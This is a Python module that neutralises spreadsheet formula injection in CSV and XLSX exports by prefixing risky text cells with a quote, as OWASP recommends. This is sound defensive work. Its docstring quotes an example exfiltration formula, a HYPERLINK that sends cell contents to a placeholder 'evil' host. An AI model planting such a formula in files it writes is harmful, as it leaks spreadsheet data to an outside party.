"""Spreadsheet formula injection guard for CSV and XLSX files people open in Excel or LibreOffice.

Text typed by workshop participants or found in imported files can start with ``=``, ``+``, ``-``
or ``@`` (``=HYPERLINK("http://evil/?"&A1, "click")``); a spreadsheet program opening the CSV, or
openpyxl writing the cell, turns it into a live formula.  OWASP's recommendation
(https://owasp.org/www-community/attacks/CSV_Injection) is followed: a text cell that begins with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote ``'``, so the
program shows it as text; quoting of the whole field is left to the CSV writer.  Numbers are not
touched: numeric columns stay numbers, and a text cell that is a plain number (``-3.5``, ``+1e3``)
is not a formula and is left as it is.

One place for every writer of such files: :func:`neutralise_frame` (pandas: report CSVs,
``kb export --format xlsx``, dashboard downloads) and :func:`sql_neutralise` (DuckDB ``COPY``:
``kb export --format csv``).  Parquet is a data format, not a spreadsheet: it stays raw.
Only the standard library is imported at module level.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"
NUMBER = re.compile(r"^[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?$")
# the same as SQL regular expressions (RE2) for DuckDB
_SQL_TRIGGER = r"^[=+\-@\t\r]"
_SQL_NUMBER = r"^[+-]?([0-9]+([.,][0-9]*)?|[.,][0-9]+)([eE][+-]?[0-9]+)?$"


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula (OWASP trigger characters)."""
    return bool(text) and text.startswith(TRIGGERS) and not NUMBER.match(text)


def neutralise_text(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text starting a formula; anything else unchanged."""
    if isinstance(value, str) and is_dangerous(value):
        return PREFIX + value
    return value


def neutralise_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and text column names) cannot start a formula.

    Only object/string columns are looked at; numeric, boolean and date columns are unchanged.
    """
    import pandas as pd

    out = df.copy()
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if not (column.dtype == object or isinstance(column.dtype, pd.StringDtype)):
            continue
        mask = column.map(lambda v: isinstance(v, str) and is_dangerous(v)).astype(bool)
        if mask.any():
            out.isetitem(i, column.astype(object).map(neutralise_text))
    if any(isinstance(c, str) and is_dangerous(c) for c in out.columns):
        out.columns = [neutralise_text(c) for c in out.columns]
    out.index = _neutralise_index(out.index)
    return out


def _neutralise_index(index: pd.Index) -> pd.Index:
    """Row labels are written to CSV too (``to_csv(index=True)``)."""
    import pandas as pd

    if isinstance(index, pd.MultiIndex):
        levels = [_neutralise_index(level) for level in index.levels]
        return index.set_levels(levels)
    text = index.dtype == object or isinstance(index.dtype, pd.StringDtype)
    if text and any(isinstance(v, str) and is_dangerous(v) for v in index):
        return index.map(neutralise_text)
    return index


def sql_neutralise(expr: str) -> str:
    """A DuckDB SQL expression giving the VARCHAR ``expr`` with the same neutralisation."""
    return (
        f"CASE WHEN regexp_matches({expr}, '{_SQL_TRIGGER}') AND NOT "
        f"regexp_matches({expr}, '{_SQL_NUMBER}') THEN '''' || {expr} ELSE {expr} END"
    )
